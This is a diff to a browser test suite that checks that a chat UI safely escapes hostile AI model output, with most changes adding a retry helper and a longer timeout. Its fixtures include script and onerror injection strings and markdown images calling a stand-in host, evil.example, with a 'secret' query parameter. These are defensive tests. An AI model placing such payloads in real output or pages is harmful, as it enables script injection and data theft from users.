@@ -3,6 +3,7 @@ import { FakeHost } from "./fake-host.ts";
 import { context, offers } from "./offers.ts";
 import { closeBrowser } from "./page-driver.ts";
 import { answer, attempt, done, emptySession, events, lane, reasoning, sessionOf, start } from "./scenarios.ts";
+import { eventually } from "../support/eventually.ts";
 
 const sol = lane("a", "openai", "gpt-6-sol", "high");
 
@@ -16,13 +17,13 @@ async function show(answerText: string, reasoningText = "Hm.") {
 
 /** Nothing ran, nothing was asked for, nothing broke. */
 async function assertQuiet({ page, webview }: Awaited<ReturnType<typeof show>>): Promise<void> {
-  assert.equal(await page.evaluate(() => Reflect.get(window, "wasOwned")), undefined);
-  assert.deepEqual(webview.requests, []);
+  await eventually(async () => assert.equal(await page.evaluate(() => Reflect.get(window, "wasOwned")), undefined));
+  await eventually(() => assert.deepEqual(webview.requests, []));
   assert.deepEqual(webview.errors, []);
 }
 
 describe("hostile model output in the page", function () {
-  this.timeout(30_000);
+  this.timeout(60_000);
   after(closeBrowser);
 
   const html = [
@@ -39,7 +40,9 @@ describe("hostile model output in the page", function () {
     const opened = await show(html.join("\n\n"));
     const text = await opened.page.textContent(".answer");
     for (const each of html) assert.ok(text?.includes(each.slice(0, 12)), each);
-    assert.equal(await opened.page.locator(".answer").locator("script, img, svg, iframe, style, form").count(), 0);
+    await eventually(async () =>
+      assert.equal(await opened.page.locator(".answer").locator("script, img, svg, iframe, style, form").count(), 0),
+    );
     await assertQuiet(opened);
     await opened.host.close();
   });
@@ -49,17 +52,21 @@ describe("hostile model output in the page", function () {
     const text = await opened.page.textContent(".trace");
     assert.ok(text?.includes("<img src=x onerror"));
     assert.ok(text?.includes("![x](https://evil.example/p.png)"));
-    assert.equal(await opened.page.locator(".trace").locator("script, img, svg, iframe, a").count(), 0);
+    await eventually(async () =>
+      assert.equal(await opened.page.locator(".trace").locator("script, img, svg, iframe, a").count(), 0),
+    );
     await assertQuiet(opened);
     await opened.host.close();
   });
 
   it("loads no image: its text and address stand in its place", async () => {
     const opened = await show("![a chart](https://evil.example/chart.png?q=secret) and ![](data:image/png;base64,AAAA)");
-    assert.equal(await opened.page.locator("img").count(), 0);
-    assert.equal(
-      await opened.page.locator(".remote-image").first().textContent(),
-      "a chart (https://evil.example/chart.png?q=secret)",
+    await eventually(async () => assert.equal(await opened.page.locator("img").count(), 0));
+    await eventually(async () =>
+      assert.equal(
+        await opened.page.locator(".remote-image").first().textContent(),
+        "a chart (https://evil.example/chart.png?q=secret)",
+      ),
     );
     await assertQuiet(opened);
     await opened.host.close();
@@ -85,7 +92,9 @@ describe("hostile model output in the page", function () {
     assert.deepEqual(addresses, ["https://example.com/a?b=c", "mailto:a@example.com", "https://example.com/auto"]);
     await opened.page.locator(".answer a").first().click();
     await opened.host.settled();
-    assert.deepEqual(opened.host.requests.at(-1), { method: "link/open", url: "https://example.com/a?b=c" });
+    await eventually(() =>
+      assert.deepEqual(opened.host.requests.at(-1), { method: "link/open", url: "https://example.com/a?b=c" }),
+    );
     assert.equal(opened.page.url().includes("127.0.0.1"), true);
     await assertQuiet(opened);
     await opened.host.close();
@@ -99,8 +108,8 @@ describe("hostile model output in the page", function () {
       ...context,
       models: offers.map((offer, index) => (index === 0 ? { ...offer, label: name, providerLabel: name } : offer)),
     });
-    assert.equal(await page.locator("main b").count(), 0);
-    assert.equal(await page.locator("#lane-b").textContent(), `Lane 2, ${name}`);
+    await eventually(async () => assert.equal(await page.locator("main b").count(), 0));
+    await eventually(async () => assert.equal(await page.locator("#lane-b").textContent(), `Lane 2, ${name}`));
     await assertQuiet({ host, page, webview });
     await host.close();
   });
@@ -108,7 +117,7 @@ describe("hostile model output in the page", function () {
   it("survives one line of a million characters in answer and reasoning", async () => {
     const long = "word ".repeat(100_000) + "x".repeat(500_000);
     const opened = await show(long, long);
-    assert.equal((await opened.page.textContent(".trace"))?.length, long.length);
+    await eventually(async () => assert.equal((await opened.page.textContent(".trace"))?.length, long.length));
     const shown = (await opened.page.textContent(".md-text"))?.replaceAll(/\s/g, "").length ?? 0;
     assert.equal(shown, long.replaceAll(/\s/g, "").length);
     const width = await opened.page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
@@ -134,7 +143,7 @@ describe("hostile model output in the page", function () {
   it("shows the empty page for a session whose texts are all markup", async () => {
     const title = "</h1><script>window.wasOwned = 1</script>";
     const { host, page, webview } = await FakeHost.open({ ...emptySession, title }, context);
-    assert.ok((await page.textContent("h1"))?.startsWith(title));
+    await eventually(async () => assert.ok((await page.textContent("h1"))?.startsWith(title)));
     await assertQuiet({ host, page, webview });
     await host.close();
   });
